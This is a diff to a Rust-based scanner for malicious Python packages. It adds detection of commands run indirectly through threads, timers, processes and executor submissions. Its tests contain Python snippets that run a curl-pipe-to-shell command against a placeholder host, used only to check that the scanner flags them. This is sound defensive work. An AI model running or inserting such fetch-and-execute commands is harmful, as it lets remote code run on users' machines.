@@ -6,7 +6,7 @@
 //! `wheelhound-scoring`, whose documentation explains the weighting.
 
 use ruff_python_ast::{Expr, ExprCall};
-use ruff_text_size::TextRange;
+use ruff_text_size::{Ranged, TextRange};
 
 use crate::finding::Rule;
 use crate::walker::Checker;
@@ -56,6 +56,9 @@ pub fn by_id(id: &str) -> Option<&'static Rule> {
 
 /// Called for every call expression, with the callee's resolved name.
 pub fn on_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if let Some((target, deferred)) = deferred_call(checker, call, qualname) {
+        on_call(checker, &deferred, &target);
+    }
     let before = checker.findings.len();
     install_hook::check_call(checker, call, qualname);
     dynamic_exec::check_call(checker, call, qualname);
@@ -67,6 +70,63 @@ pub fn on_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     import_obfuscation::check_call(checker, call, qualname);
     obfuscation_layout::check_call(checker, call, qualname);
     setup_code::after_call(checker, call, before);
+}
+
+/// `Thread(target=os.system, args=(cmd,))`, `Timer(5, f, args)`, `Process(target=...)`,
+/// `executor.submit(f, x)`: a callable handed over with its arguments runs as if called here.
+/// Returns the callee's name and the call it stands for.
+fn deferred_call(checker: &Checker, call: &ExprCall, qualname: &str) -> Option<(String, ExprCall)> {
+    let last = qualname.rsplit('.').next().unwrap_or(qualname);
+    let (target, arguments): (&Expr, Option<&Expr>) = match last {
+        "Thread" | "Process"
+            if qualname.contains("threading") || qualname.contains("multiprocessing") =>
+        {
+            (keyword(call, "target")?, keyword(call, "args"))
+        }
+        "Timer" if qualname.contains("threading") => (
+            call.arguments
+                .args
+                .get(1)
+                .or_else(|| keyword(call, "function"))?,
+            call.arguments.args.get(2).or_else(|| keyword(call, "args")),
+        ),
+        "submit" | "start_new_thread" => {
+            let target = call.arguments.args.first()?;
+            let rest: Vec<Expr> = call.arguments.args.iter().skip(1).cloned().collect();
+            let name = checker.qualname(target)?;
+            return Some((name, synthetic_call(call, target, rest)));
+        }
+        _ => return None,
+    };
+    let name = checker.qualname(target)?;
+    let args = match arguments {
+        Some(Expr::Tuple(tuple)) => tuple.elts.clone(),
+        Some(Expr::List(list)) => list.elts.clone(),
+        Some(other) => vec![ruff_python_ast::Expr::Starred(
+            ruff_python_ast::ExprStarred {
+                node_index: Default::default(),
+                range: other.range(),
+                value: Box::new(other.clone()),
+                ctx: ruff_python_ast::ExprContext::Load,
+            },
+        )],
+        None => Vec::new(),
+    };
+    Some((name, synthetic_call(call, target, args)))
+}
+
+fn synthetic_call(call: &ExprCall, target: &Expr, args: Vec<Expr>) -> ExprCall {
+    ExprCall {
+        node_index: Default::default(),
+        range_start: call.range().start(),
+        func: Box::new(target.clone()),
+        arguments: ruff_python_ast::Arguments {
+            range: call.arguments.range,
+            node_index: Default::default(),
+            args: args.into_boxed_slice(),
+            keywords: Default::default(),
+        },
+    }
 }
 
 /// Called for every string and bytes literal that is not a docstring.
@@ -161,5 +221,20 @@ pub(crate) mod testing {
             .filter(|f| f.rule == rule)
             .map(|f| f.severity)
             .fold(0.0, f64::max)
+    }
+}
+
+#[cfg(test)]
+mod deferred_tests {
+    use super::testing::max_severity;
+
+    #[test]
+    fn callables_handed_to_threads_run_with_their_arguments() {
+        let code = "import os, threading\nthreading.Thread(target=os.system, args=('curl https://x.invalid/a.sh | sh',)).start()\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
+        let code = "import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as ex:\n    ex.submit(os.system, 'curl https://x.invalid/a.sh | sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
+        let code = "import threading\ndef work(n):\n    return n\nthreading.Thread(target=work, args=(1,)).start()\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", code, "WH120"), 0.0);
     }
 }
